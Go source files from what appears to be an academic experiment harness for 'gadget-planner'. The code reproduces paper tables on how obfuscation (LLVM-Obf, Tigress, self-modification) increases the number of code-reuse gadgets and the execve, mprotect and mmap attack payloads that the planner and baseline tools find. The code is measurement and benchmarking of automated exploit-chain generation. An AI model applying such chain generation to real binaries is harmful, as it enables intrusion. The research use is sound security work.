		row.Payloads += part.Payloads
		row.NewPayloads += part.NewPayloads
	}
	return rows, nil
}

// RenderFig5 prints the figure as a table.
func RenderFig5(rows []Fig5Row) string {
	defer pipeline.TrackWall("render")()
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-8s %10s %10s %12s\n", "Pass", "Gadgets", "Payloads", "NewPayloads")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-8s %10d %10d %12d\n", r.Pass, r.Gadgets, r.Payloads, r.NewPayloads)
	}
	return sb.String()
}

// Table6Row is one SPEC-style program's per-tool chain counts (paper
// Table VI).
type Table6Row struct {
	Benchmark string
	Obf       string
	Gadgets   int
	RG        int
	Angrop    int
	SGC       int
	GP        int
}

// Table6 runs the comparison on the SPEC-style corpus. Each
// (program, configuration) pair is one concurrent cell filling its own row.
func Table6(opts Options) ([]Table6Row, error) {
	opts.Programs = benchprog.Spec()
	opts = opts.withDefaults()
	configs := Configs()
	nCells := len(opts.Programs) * len(configs)
	rows := make([]Table6Row, nCells)
	pipePar := opts.pipelineParallelism(nCells)
	err := runCells(opts.Parallelism, nCells, func(i int) error {
		p := opts.Programs[i/len(configs)]
		cfg := configs[i%len(configs)]
		bin, err := opts.build(p, cfg)
		if err != nil {
			return err
		}
		row := Table6Row{Benchmark: p.Name, Obf: cfg.Name}
		row.Gadgets = gadget.TotalCount(pipeline.Count(opts.Store, bin, 10))
		row.RG = (&ropgadget.Tool{}).Run(bin).TotalPayloads()
		row.Angrop = (&angrop.Tool{}).Run(bin).TotalPayloads()
		row.SGC = (&sgc.Tool{}).Run(bin).TotalPayloads()
		a := core.Analyze(bin, core.Config{Planner: opts.Planner, Parallelism: pipePar, Store: opts.Store})
		row.GP = core.TotalPayloads(a.FindAll())
		rows[i] = row
		return nil
	})
	if err != nil {
		return nil, err
	}
	return rows, nil
}

// RenderTable6 prints Table VI.
func RenderTable6(rows []Table6Row) string {
	defer pipeline.TrackWall("render")()
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-12s %-10s %9s %4s %7s %4s %4s\n",
		"Benchmark", "Obf", "Gadgets", "RG", "Angrop", "SGC", "GP")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-12s %-10s %9d %4d %7d %4d %4d\n",
			r.Benchmark, r.Obf, r.Gadgets, r.RG, r.Angrop, r.SGC, r.GP)
	}
	return sb.String()
}

// PoolCompositionRow reports which gadget classes exist in the minimized
// pool per build configuration. Conditional-jump, merged direct-jump and
// indirect-jump gadgets appear only after obfuscation — the pool-level view
// of the increased attack surface.
type PoolCompositionRow struct {
	Obf         string
	Pool        int
	Conditional int
	MergedDJ    int
	Indirect    int
	Deref       int
}

// PoolComposition classifies minimized-pool gadgets across the corpus.
// (configuration, program) pairs are independent cells; per-cell partial
// counts are reduced per configuration.
func PoolComposition(opts Options) ([]PoolCompositionRow, error) {
	opts = opts.withDefaults()
	configs := Configs()
	if len(opts.Programs) == 0 {
		rows := make([]PoolCompositionRow, 0, len(configs))
		for _, cfg := range configs {
			rows = append(rows, PoolCompositionRow{Obf: cfg.Name})
		}
		return rows, nil
	}
	nCells := len(configs) * len(opts.Programs)
	parts := make([]PoolCompositionRow, nCells)
	pipePar := opts.pipelineParallelism(nCells)
	err := runCells(opts.Parallelism, nCells, func(i int) error {
		cfg := configs[i/len(opts.Programs)]
		p := opts.Programs[i%len(opts.Programs)]
		bin, err := opts.build(p, cfg)
		if err != nil {
			return err
		}
		part := PoolCompositionRow{Obf: cfg.Name}
		a := core.Analyze(bin, core.Config{Parallelism: pipePar, Store: opts.Store})
		part.Pool = a.Pool.Size()
		for _, g := range a.Pool.Gadgets {
			if g.HasCond {
				part.Conditional++
			}
			if g.Merged {
				part.MergedDJ++
			}
			if g.JmpType == gadget.TypeUIJ || g.JmpType == gadget.TypeCIJ {
				part.Indirect++
			}
			if g.Effect.HasDerefs() {
				part.Deref++
			}
		}
		parts[i] = part
		return nil
	})
	if err != nil {
		return nil, err
	}
	rows := make([]PoolCompositionRow, 0, len(configs))
	for i, part := range parts {
		if i%len(opts.Programs) == 0 {
			rows = append(rows, PoolCompositionRow{Obf: part.Obf})
		}
		row := &rows[len(rows)-1]
		row.Pool += part.Pool
		row.Conditional += part.Conditional
		row.MergedDJ += part.MergedDJ
		row.Indirect += part.Indirect
		row.Deref += part.Deref
	}
	return rows, nil
}

// RenderPoolComposition prints the class table.
func RenderPoolComposition(rows []PoolCompositionRow) string {
	defer pipeline.TrackWall("render")()
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-10s %8s %8s %8s %8s %8s\n",
		"Obf", "Pool", "CondJ", "MergedDJ", "Indirect", "Deref")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-10s %8d %8d %8d %8d %8d\n",
			r.Obf, r.Pool, r.Conditional, r.MergedDJ, r.Indirect, r.Deref)
	}
	return sb.String()
}
