package experiments

import (
	"fmt"
	"sort"
	"strings"

	"github.com/nofreelunch/gadget-planner/internal/baseline"
	"github.com/nofreelunch/gadget-planner/internal/baseline/angrop"
	"github.com/nofreelunch/gadget-planner/internal/baseline/ropgadget"
	"github.com/nofreelunch/gadget-planner/internal/baseline/sgc"
	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/core"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/planner"
)

// Fig1Row is one program's gadget counts across build configurations
// (paper Fig. 1).
type Fig1Row struct {
	Program  string
	Original int
	LLVMObf  int
	Tigress  int
}

// Fig1 counts classically-scanned gadgets per program and configuration.
func Fig1(opts Options) ([]Fig1Row, error) {
	opts = opts.withDefaults()
	b := NewBuilder(opts.Seed)
	var rows []Fig1Row
	for _, p := range opts.Programs {
		row := Fig1Row{Program: p.Name}
		for _, cfg := range Configs() {
			bin, err := b.Build(p, cfg)
			if err != nil {
				return nil, err
			}
			n := gadget.TotalCount(gadget.Count(bin, 10))
			switch cfg.Name {
			case "Original":
				row.Original = n
			case "LLVM-Obf":
				row.LLVMObf = n
			case "Tigress":
				row.Tigress = n
			}
		}
		rows = append(rows, row)
	}
	return rows, nil
}

// RenderFig1 prints the figure as a table.
func RenderFig1(rows []Fig1Row) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-14s %10s %10s %10s %8s %8s\n",
		"Program", "Original", "LLVM-Obf", "Tigress", "LLVM-x", "Tig-x")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-14s %10d %10d %10d %7.2fx %7.2fx\n",
			r.Program, r.Original, r.LLVMObf, r.Tigress,
			ratio(r.LLVMObf, r.Original), ratio(r.Tigress, r.Original))
	}
	return sb.String()
}

func ratio(a, b int) float64 {
	if b == 0 {
		return 0
	}
	return float64(a) / float64(b)
}

// Table1Row is one gadget class's average counts (paper Table I).
type Table1Row struct {
	Type         gadget.JmpType
	Original     float64
	Obfuscated   float64 // mean of LLVM-Obf and Tigress builds
	IncreaseRate float64 // percent
}

// Table1 computes per-class average gadget counts across the corpus.
func Table1(opts Options) ([]Table1Row, error) {
	opts = opts.withDefaults()
	b := NewBuilder(opts.Seed)
	sums := map[gadget.JmpType][3]float64{}
	for _, p := range opts.Programs {
		for ci, cfg := range Configs() {
			bin, err := b.Build(p, cfg)
			if err != nil {
				return nil, err
			}
			for t, n := range gadget.Count(bin, 10) {
				s := sums[t]
				s[ci] += float64(n)
				sums[t] = s
			}
		}
	}
	nProg := float64(len(opts.Programs))
	var rows []Table1Row
	for _, t := range []gadget.JmpType{
		gadget.TypeReturn, gadget.TypeUDJ, gadget.TypeUIJ,
		gadget.TypeCDJ, gadget.TypeCIJ, gadget.TypeSyscall,
	} {
		s := sums[t]
		orig := s[0] / nProg
		obf := (s[1] + s[2]) / (2 * nProg)
		ir := 0.0
		if orig > 0 {
			ir = 100 * (obf - orig) / orig
		}
		rows = append(rows, Table1Row{Type: t, Original: orig, Obfuscated: obf, IncreaseRate: ir})
	}
	return rows, nil
}

// RenderTable1 prints Table I.
func RenderTable1(rows []Table1Row) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-10s %12s %12s %8s\n", "Type", "Original", "Obfuscated", "IR")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-10s %12.1f %12.1f %7.1f%%\n",
			r.Type, r.Original, r.Obfuscated, r.IncreaseRate)
	}
	return sb.String()
}

// Table4Row is one (configuration, tool) aggregate over the corpus
// (paper Table IV).
type Table4Row struct {
	Obf       string
	Tool      string
	PoolTotal int // gadgets collected
	PoolUsed  int // gadgets appearing in chains
	Execve    int
	Mprotect  int
	Mmap      int
	Total     int
	NewTotal  int // payloads relying on obfuscation-introduced gadgets
}

// Table4 runs all four tools over the corpus per configuration.
func Table4(opts Options) ([]Table4Row, map[string][]*core.Attack, error) {
	opts = opts.withDefaults()
	b := NewBuilder(opts.Seed)
	// SGC gets the same search budget as Gadget-Planner; its handicap is
	// its gadget selection, not its allowance (paper Section VI).
	tools := []baseline.Tool{&ropgadget.Tool{}, &angrop.Tool{}, &sgc.Tool{
		MaxPlans: opts.Planner.MaxPlans,
		MaxNodes: opts.Planner.MaxNodes,
		Timeout:  opts.Planner.Timeout,
	}}

	rowIdx := map[string]*Table4Row{}
	var order []string
	get := func(obf, tool string) *Table4Row {
		k := obf + "|" + tool
		if r, ok := rowIdx[k]; ok {
			return r
		}
		r := &Table4Row{Obf: obf, Tool: tool}
		rowIdx[k] = r
		order = append(order, k)
		return r
	}
	gpPlans := map[string][]*core.Attack{}

	for _, p := range opts.Programs {
		origText, err := origTextOf(b, p)
		if err != nil {
			return nil, nil, err
		}
		for _, cfg := range Configs() {
			bin, err := b.Build(p, cfg)
			if err != nil {
				return nil, nil, err
			}
			for _, tool := range tools {
				res := tool.Run(bin)
				row := get(cfg.Name, res.ToolName)
				row.PoolTotal += res.GadgetsTotal
				row.PoolUsed += res.GadgetsUsed
				row.Execve += res.PayloadsFor("execve")
				row.Mprotect += res.PayloadsFor("mprotect")
				row.Mmap += res.PayloadsFor("mmap")
				row.Total += res.TotalPayloads()
				if cfg.Name != "Original" {
					for _, c := range res.Chains {
						if !c.Verified {
							continue
						}
						for _, g := range c.Gadgets {
							if IsNewGadget(bin, g, origText) {
								row.NewTotal++
								break
							}
						}
					}
				}
			}
			// Gadget-Planner.
			a := core.Analyze(bin, core.Config{Planner: opts.Planner})
			attacks := a.FindAll()
			row := get(cfg.Name, "Gadget-Planner")
			row.PoolTotal += a.Pool.Size()
			used := map[uint64]bool{}
			for _, atk := range attacks {
				for _, pl := range atk.Payloads {
					for _, g := range pl.Chain {
						used[g.Location] = true
					}
				}
			}
			row.PoolUsed += len(used)
			row.Execve += len(attacks["execve"].Payloads)
			row.Mprotect += len(attacks["mprotect"].Payloads)
			row.Mmap += len(attacks["mmap"].Payloads)
			row.Total += core.TotalPayloads(attacks)
			if cfg.Name != "Original" {
				row.NewTotal += NewPayloads(bin, attacks, origText)
			}
			gpPlans[cfg.Name] = append(gpPlans[cfg.Name], attacks["execve"], attacks["mprotect"], attacks["mmap"])
		}
	}

	var rows []Table4Row
	for _, k := range order {
		rows = append(rows, *rowIdx[k])
	}
	sort.SliceStable(rows, func(i, j int) bool {
		oi := configOrder(rows[i].Obf)
		oj := configOrder(rows[j].Obf)
		if oi != oj {
			return oi < oj
		}
		return toolOrder(rows[i].Tool) < toolOrder(rows[j].Tool)
	})
	return rows, gpPlans, nil
}

func configOrder(name string) int {
	switch name {
	case "Original":
		return 0
	case "LLVM-Obf":
		return 1
	default:
		return 2
	}
}

func toolOrder(name string) int {
	switch name {
	case "ROPGadget":
		return 0
	case "Angrop":
		return 1
	case "SGC":
		return 2
	default:
		return 3
	}
}

// RenderTable4 prints Table IV.
func RenderTable4(rows []Table4Row) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-10s %-15s %10s %6s %8s %9s %6s %8s\n",
		"Obf", "Tool", "Pool", "Used", "execve", "mprotect", "mmap", "Total")
	for _, r := range rows {
		total := fmt.Sprintf("%d", r.Total)
		if r.Obf != "Original" {
			total = fmt.Sprintf("%d (+%d)", r.Total, r.NewTotal)
		}
		fmt.Fprintf(&sb, "%-10s %-15s %10d %6d %8d %9d %6d %8s\n",
			r.Obf, r.Tool, r.PoolTotal, r.PoolUsed, r.Execve, r.Mprotect, r.Mmap, total)
	}
	return sb.String()
}

// Table5Row is one tool's chain-property summary (paper Table V).
type Table5Row struct {
	Tool  string
	Stats core.ChainStats
}

// Table5 computes chain diversity/complexity for the Gadget-Planner chains
// Table4 found. The baseline rows follow from their constructions: ROPGadget
// and Angrop build 100%-return chains of 2-instruction gadgets; SGC adds
// indirect jumps but never conditional or merged direct-jump gadgets.
func Table5(gpAttacks map[string][]*core.Attack) []Table5Row {
	var plans []*planner.Plan
	for _, list := range gpAttacks {
		for _, atk := range list {
			plans = append(plans, atk.Plans...)
		}
	}
	return []Table5Row{{Tool: "Gadget-Planner", Stats: core.Summarize(plans)}}
}

// RenderTable5 prints Table V.
func RenderTable5(rows []Table5Row) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-15s %10s %10s %6s %6s %6s %6s\n",
		"Tool", "GadgetLen", "ChainLen", "Ret", "IJ", "DJ", "CJ")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-15s %10.1f %10.1f %5.0f%% %5.0f%% %5.0f%% %5.0f%%\n",
			r.Tool, r.Stats.AvgGadgetLen, r.Stats.AvgChainLen,
			r.Stats.PctRet, r.Stats.PctIndirect, r.Stats.PctDirect, r.Stats.PctCond)
	}
	return sb.String()
}

// Fig5Row is one obfuscation pass's attack-surface contribution (paper
// Fig. 5): payload counts when only that pass is applied.
type Fig5Row struct {
	Pass        string
	Gadgets     int // classic gadget count
	Payloads    int
	NewPayloads int
}

// Fig5 measures each individual obfuscation pass, plus the self-
// modification post-link transform (which — uniquely — *hides* the static
// surface while leaving the decoded runtime image fully exploitable; see
// obfuscate.SelfModifyBinary).
func Fig5(opts Options) ([]Fig5Row, error) {
	opts = opts.withDefaults()
	b := NewBuilder(opts.Seed)
	var rows []Fig5Row
	for _, passName := range obfuscate.AllPassNames() {
		passName := passName
		cfg := ObfConfig{Name: passName, Passes: func() []obfuscate.Pass {
			p, err := obfuscate.ByName(passName)
			if err != nil {
				return nil
			}
			return []obfuscate.Pass{p}
		}}
		row := Fig5Row{Pass: passName}
		for _, p := range opts.Programs {
			origText, err := origTextOf(b, p)
			if err != nil {
				return nil, err
			}
			bin, err := b.Build(p, cfg)
			if err != nil {
				return nil, err
			}
			row.Gadgets += gadget.TotalCount(gadget.Count(bin, 10))
			a := core.Analyze(bin, core.Config{Planner: opts.Planner})
			attacks := a.FindAll()
			row.Payloads += core.TotalPayloads(attacks)
			row.NewPayloads += NewPayloads(bin, attacks, origText)
		}
		rows = append(rows, row)
	}

	// Self-modification: static scan of the encoded image.
	smRow := Fig5Row{Pass: "selfmod"}
	for _, p := range opts.Programs {
		plain, err := b.Build(p, Configs()[0])
		if err != nil {
			return nil, err
		}
		sm, err := obfuscate.SelfModifyBinary(plain, byte(opts.Seed)|1)
		if err != nil {
			return nil, err
		}
		smRow.Gadgets += gadget.TotalCount(gadget.Count(sm, 10))
		a := core.Analyze(sm, core.Config{Planner: opts.Planner})
		smRow.Payloads += core.TotalPayloads(a.FindAll())
	}
	rows = append(rows, smRow)
	return rows, nil
}

// RenderFig5 prints the figure as a table.
func RenderFig5(rows []Fig5Row) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-8s %10s %10s %12s\n", "Pass", "Gadgets", "Payloads", "NewPayloads")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-8s %10d %10d %12d\n", r.Pass, r.Gadgets, r.Payloads, r.NewPayloads)
	}
	return sb.String()
}

// Table6Row is one SPEC-style program's per-tool chain counts (paper
// Table VI).
type Table6Row struct {
	Benchmark string
	Obf       string
	Gadgets   int
	RG        int
	Angrop    int
	SGC       int
	GP        int
}

// Table6 runs the comparison on the SPEC-style corpus.
func Table6(opts Options) ([]Table6Row, error) {
	opts.Programs = benchprog.Spec()
	opts = opts.withDefaults()
	b := NewBuilder(opts.Seed)
	var rows []Table6Row
	for _, p := range opts.Programs {
		for _, cfg := range Configs() {
			bin, err := b.Build(p, cfg)
			if err != nil {
				return nil, err
			}
			row := Table6Row{Benchmark: p.Name, Obf: cfg.Name}
			row.Gadgets = gadget.TotalCount(gadget.Count(bin, 10))
			row.RG = (&ropgadget.Tool{}).Run(bin).TotalPayloads()
			row.Angrop = (&angrop.Tool{}).Run(bin).TotalPayloads()
			row.SGC = (&sgc.Tool{}).Run(bin).TotalPayloads()
			a := core.Analyze(bin, core.Config{Planner: opts.Planner})
			row.GP = core.TotalPayloads(a.FindAll())
			rows = append(rows, row)
		}
	}
	return rows, nil
}

// RenderTable6 prints Table VI.
func RenderTable6(rows []Table6Row) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-12s %-10s %9s %4s %7s %4s %4s\n",
		"Benchmark", "Obf", "Gadgets", "RG", "Angrop", "SGC", "GP")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-12s %-10s %9d %4d %7d %4d %4d\n",
			r.Benchmark, r.Obf, r.Gadgets, r.RG, r.Angrop, r.SGC, r.GP)
	}
	return sb.String()
}

// PoolCompositionRow reports which gadget classes exist in the minimized
// pool per build configuration. Conditional-jump, merged direct-jump and
// indirect-jump gadgets appear only after obfuscation — the pool-level view
// of the increased attack surface.
type PoolCompositionRow struct {
	Obf         string
	Pool        int
	Conditional int
	MergedDJ    int
	Indirect    int
	Deref       int
}

// PoolComposition classifies minimized-pool gadgets across the corpus.
func PoolComposition(opts Options) ([]PoolCompositionRow, error) {
	opts = opts.withDefaults()
	b := NewBuilder(opts.Seed)
	var rows []PoolCompositionRow
	for _, cfg := range Configs() {
		row := PoolCompositionRow{Obf: cfg.Name}
		for _, p := range opts.Programs {
			bin, err := b.Build(p, cfg)
			if err != nil {
				return nil, err
			}
			a := core.Analyze(bin, core.Config{})
			row.Pool += a.Pool.Size()
			for _, g := range a.Pool.Gadgets {
				if g.HasCond {
					row.Conditional++
				}
				if g.Merged {
					row.MergedDJ++
				}
				if g.JmpType == gadget.TypeUIJ || g.JmpType == gadget.TypeCIJ {
					row.Indirect++
				}
				if g.Effect.HasDerefs() {
					row.Deref++
				}
			}
		}
		rows = append(rows, row)
	}
	return rows, nil
}

// RenderPoolComposition prints the class table.
func RenderPoolComposition(rows []PoolCompositionRow) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-10s %8s %8s %8s %8s %8s\n",
		"Obf", "Pool", "CondJ", "MergedDJ", "Indirect", "Deref")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-10s %8d %8d %8d %8d %8d\n",
			r.Obf, r.Pool, r.Conditional, r.MergedDJ, r.Indirect, r.Deref)
	}
	return sb.String()
}
