package experiments

import (
	"fmt"
	"strings"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/core"
	"github.com/nofreelunch/gadget-planner/internal/planner"
)

// PlannerCounts aggregates the planner's search counters across goals, the
// planning-stage analogue of SolverTierCounts.
type PlannerCounts struct {
	Expanded       int64 `json:"expanded"`
	Generated      int64 `json:"generated"`
	Batches        int64 `json:"batches"`
	CacheHits      int64 `json:"cache_hits"`
	CacheMisses    int64 `json:"cache_misses"`
	TruncatedSeeds int64 `json:"truncated_seeds"`
}

func (c *PlannerCounts) addSearch(r *planner.Result) {
	c.Expanded += int64(r.Expanded)
	c.Generated += int64(r.Generated)
	c.Batches += int64(r.Batches)
	c.CacheHits += r.CacheHits
	c.CacheMisses += r.CacheMisses
	c.TruncatedSeeds += int64(r.TruncatedSeeds)
}

// HitRate is the provider-cache hit fraction.
func (c PlannerCounts) HitRate() float64 {
	total := c.CacheHits + c.CacheMisses
	if total == 0 {
		return 0
	}
	return float64(c.CacheHits) / float64(total)
}

// PlannerBench is the machine-readable multi-goal planning benchmark
// (BENCH_PLANNER.json), structured like SolverBench: an end-to-end section
// runs core.FindAll (planning plus payload validation) and cross-checks
// that plans and payload bytes are identical at every worker count against
// the serial cache-off reference, and a search section measures the
// planning stage alone — the three goal searches with no validation cap,
// where the overhaul's work actually lives — serial seed path (one worker,
// caches off) versus the overhauled path (cache on, batch-parallel
// frontier). Speedup is the search-section headline.
type PlannerBench struct {
	Program      string `json:"program"`
	Obfuscation  string `json:"obfuscation"`
	WorkerCounts []int  `json:"worker_counts"`
	BenchWorkers int    `json:"bench_workers"`

	// End-to-end: core.FindAll, goal fan-out plus in-search parallelism.
	FindAllSerialSeconds   float64 `json:"findall_serial_seconds"`
	FindAllParallelSeconds float64 `json:"findall_parallel_seconds"`
	FindAllSpeedup         float64 `json:"findall_speedup"`
	Plans                  int     `json:"plans"`
	Payloads               int     `json:"payloads"`
	ResultsIdentical       bool    `json:"results_identical"`

	// Search: the three goal searches, deep frontier, validation excluded.
	SearchSerialSeconds   float64       `json:"search_serial_seconds"`
	SearchParallelSeconds float64       `json:"search_parallel_seconds"`
	Speedup               float64       `json:"speedup"`
	SearchPlansIdentical  bool          `json:"search_plans_identical"`
	Serial                PlannerCounts `json:"serial_counters"`
	Parallel              PlannerCounts `json:"parallel_counters"`
	CacheHitRate          float64       `json:"cache_hit_rate"`
}

// plannerWorkerCounts are the parallelism settings cross-checked for
// plan/payload identity against the serial cache-off reference; the last
// entry is the measured configuration.
var plannerWorkerCounts = []int{1, 2, 8}

// BenchPlanner measures the planner overhaul end to end. cmd/experiments
// writes the result as BENCH_PLANNER.json.
func BenchPlanner(opts Options) (*PlannerBench, error) {
	opts = opts.withDefaults()
	// Planning — not extraction — is the subject: give the search a real
	// node budget and a wide candidate budget so the frontier machinery
	// dominates the measurement (quick runs keep their trimmed budget).
	// Tigress produces the largest, most syscall-rich pool of the bench
	// obfuscators, i.e. the deepest search.
	if !opts.Quick {
		if opts.Planner.MaxNodes < 30000 {
			opts.Planner.MaxNodes = 30000
		}
		if opts.Planner.Candidates < 32 {
			opts.Planner.Candidates = 32
		}
	}
	benchWorkers := plannerWorkerCounts[len(plannerWorkerCounts)-1]
	res := &PlannerBench{
		Program:              "netperf-sim",
		Obfuscation:          "Tigress",
		WorkerCounts:         plannerWorkerCounts,
		BenchWorkers:         benchWorkers,
		ResultsIdentical:     true,
		SearchPlansIdentical: true,
	}

	prog := benchprog.Netperf()
	bin, err := opts.build(prog, Configs()[2]) // Tigress; build shared via the store
	if err != nil {
		return nil, err
	}

	// The analyses below deliberately bypass the store (Config.Store nil):
	// this bench A/B-times FindAll at different worker counts, and cached
	// plan artifacts would replace the timed arms with store lookups.

	// End-to-end: serial seed path (one worker everywhere, caches off)
	// versus parallel worker counts, plans and payload bytes cross-checked.
	serialPlanner := opts.Planner
	serialPlanner.DisableCache = true
	aSerial := core.Analyze(bin, core.Config{Parallelism: 1, Planner: serialPlanner})
	start := time.Now()
	refAttacks := aSerial.FindAll()
	res.FindAllSerialSeconds = time.Since(start).Seconds()
	refFP := attackFingerprint(refAttacks)

	for _, wc := range plannerWorkerCounts {
		a := core.Analyze(bin, core.Config{Parallelism: wc, Planner: opts.Planner})
		start = time.Now()
		attacks := a.FindAll()
		secs := time.Since(start).Seconds()
		if attackFingerprint(attacks) != refFP {
			res.ResultsIdentical = false
		}
		if wc == benchWorkers {
			res.FindAllParallelSeconds = secs
			for _, goal := range planner.Goals() {
				res.Plans += len(attacks[goal.Name].Plans)
				res.Payloads += len(attacks[goal.Name].Payloads)
			}
		}
	}
	res.FindAllSpeedup = speedup(res.FindAllSerialSeconds, res.FindAllParallelSeconds)

	// Search section: let the frontier run its full node budget (no
	// validation, no plan cap) — the planning-stage analogue of the solver
	// bench's micro stream.
	searchOpts := opts.Planner
	searchOpts.MaxPlans = 1 << 20
	if searchOpts.Timeout < time.Minute {
		searchOpts.Timeout = time.Minute
	}
	a := core.Analyze(bin, core.Config{Parallelism: 1, Planner: searchOpts})

	runSearches := func(parallelism int, disableCache bool) (float64, PlannerCounts, string) {
		o := searchOpts
		o.Parallelism = parallelism
		o.DisableCache = disableCache
		var counts PlannerCounts
		var fp strings.Builder
		start := time.Now()
		for _, goal := range planner.Goals() {
			r := planner.Search(a.Pool, goal, o)
			counts.addSearch(r)
			fmt.Fprintf(&fp, "%s expanded=%d generated=%d plans=%d\n",
				goal.Name, r.Expanded, r.Generated, len(r.Plans))
			for _, p := range r.Plans {
				fmt.Fprintf(&fp, "  plan %s\n", p.Signature())
			}
		}
		return time.Since(start).Seconds(), counts, fp.String()
	}

	var searchRefFP string
	res.SearchSerialSeconds, res.Serial, searchRefFP = runSearches(1, true)
	for _, wc := range plannerWorkerCounts {
		secs, counts, fp := runSearches(wc, false)
		if fp != searchRefFP {
			res.SearchPlansIdentical = false
		}
		if wc == benchWorkers {
			res.SearchParallelSeconds = secs
			res.Parallel = counts
		}
	}
	res.Speedup = speedup(res.SearchSerialSeconds, res.SearchParallelSeconds)
	res.CacheHitRate = res.Parallel.HitRate()
	return res, nil
}

// attackFingerprint renders a FindAll result byte-for-byte: goal order,
// plan signatures, and payload bytes. Two runs are interchangeable iff
// their fingerprints match.
func attackFingerprint(attacks map[string]*core.Attack) string {
	var sb strings.Builder
	for _, goal := range planner.Goals() {
		atk := attacks[goal.Name]
		fmt.Fprintf(&sb, "%s plans=%d payloads=%d\n", goal.Name, len(atk.Plans), len(atk.Payloads))
		for _, p := range atk.Plans {
			fmt.Fprintf(&sb, "  plan %s\n", p.Signature())
		}
		for _, pl := range atk.Payloads {
			fmt.Fprintf(&sb, "  payload %x\n", pl.Bytes)
		}
	}
	return sb.String()
}

// RenderPlannerBench prints the benchmark as a table.
func RenderPlannerBench(b *PlannerBench) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "planner bench: %s %s, 3 goals\n", b.Program, b.Obfuscation)
	fmt.Fprintf(&sb, "end-to-end: FindAll %.3fs -> %.3fs (%.1fx), %d plans, %d payloads (identical at parallelism %v: %v)\n",
		b.FindAllSerialSeconds, b.FindAllParallelSeconds, b.FindAllSpeedup,
		b.Plans, b.Payloads, b.WorkerCounts, b.ResultsIdentical)
	fmt.Fprintf(&sb, "%-26s %10s %10s %10s %10s %10s %10s\n",
		"search (deep frontier)", "expanded", "generated", "batches", "hits", "misses", "truncSeeds")
	row := func(name string, c PlannerCounts) {
		fmt.Fprintf(&sb, "%-26s %10d %10d %10d %10d %10d %10d\n",
			name, c.Expanded, c.Generated, c.Batches, c.CacheHits, c.CacheMisses, c.TruncatedSeeds)
	}
	row("  serial (1w, cache off)", b.Serial)
	row(fmt.Sprintf("  parallel (%dw, cache on)", b.BenchWorkers), b.Parallel)
	fmt.Fprintf(&sb, "%-26s plans identical at parallelism %v: %v; cache hit rate %.1f%%\n",
		"", b.WorkerCounts, b.SearchPlansIdentical, 100*b.CacheHitRate)
	fmt.Fprintf(&sb, "%-26s search %.3fs -> %.3fs (%.1fx)\n",
		"", b.SearchSerialSeconds, b.SearchParallelSeconds, b.Speedup)
	return sb.String()
}
