package experiments

import (
	"fmt"
	"strings"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/baseline/angrop"
	"github.com/nofreelunch/gadget-planner/internal/baseline/sgc"
	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/core"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/planner"
	"github.com/nofreelunch/gadget-planner/internal/subsume"
)

// Table7Row is one (tool, stage) performance entry (paper Table VII: the
// obfuscated netperf analysis).
type Table7Row struct {
	Tool    string
	Stage   string
	Seconds float64
	AllocMB float64
}

// Table7 measures per-stage time and allocation on obfuscated netperf-sim.
func Table7(opts Options) ([]Table7Row, error) {
	opts = opts.withDefaults()
	bin, err := benchprog.Build(benchprog.Netperf(), obfuscate.LLVMObf(), opts.Seed)
	if err != nil {
		return nil, err
	}
	var rows []Table7Row

	// Angrop.
	start := time.Now()
	(&angrop.Tool{}).Run(bin)
	rows = append(rows, Table7Row{Tool: "Angrop", Stage: "total", Seconds: time.Since(start).Seconds()})

	// SGC.
	start = time.Now()
	(&sgc.Tool{}).Run(bin)
	rows = append(rows, Table7Row{Tool: "SGC", Stage: "total", Seconds: time.Since(start).Seconds()})

	// Gadget-Planner, staged.
	a := core.Analyze(bin, core.Config{Planner: opts.Planner})
	a.FindAll()
	var gpTotal float64
	for _, t := range a.Timings {
		row := Table7Row{
			Tool:    "Gadget-Planner",
			Stage:   t.Name,
			Seconds: t.Duration.Seconds(),
			AllocMB: float64(t.AllocBytes) / (1 << 20),
		}
		gpTotal += row.Seconds
		rows = append(rows, row)
	}
	rows = append(rows, Table7Row{Tool: "Gadget-Planner", Stage: "total", Seconds: gpTotal})
	return rows, nil
}

// plannerExecve returns the execve goal (helper keeping import usage tidy).
func plannerExecve() planner.Goal { return planner.ExecveGoal() }

// RenderTable7 prints Table VII.
func RenderTable7(rows []Table7Row) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-15s %-20s %10s %10s\n", "Tool", "Stage", "Time(s)", "Alloc(MB)")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-15s %-20s %10.3f %10.1f\n", r.Tool, r.Stage, r.Seconds, r.AllocMB)
	}
	return sb.String()
}

// AblationSubsumptionRow reports stage-2's effect (paper Section VI-D:
// "reduce the set of gadgets by an average factor of 2.97").
type AblationSubsumptionRow struct {
	Program         string
	PoolBefore      int
	PoolAfter       int
	ReductionFactor float64
	PlanTimeWith    time.Duration
	PlanTimeWithout time.Duration
}

// AblationSubsumption compares planning with and without pool minimization.
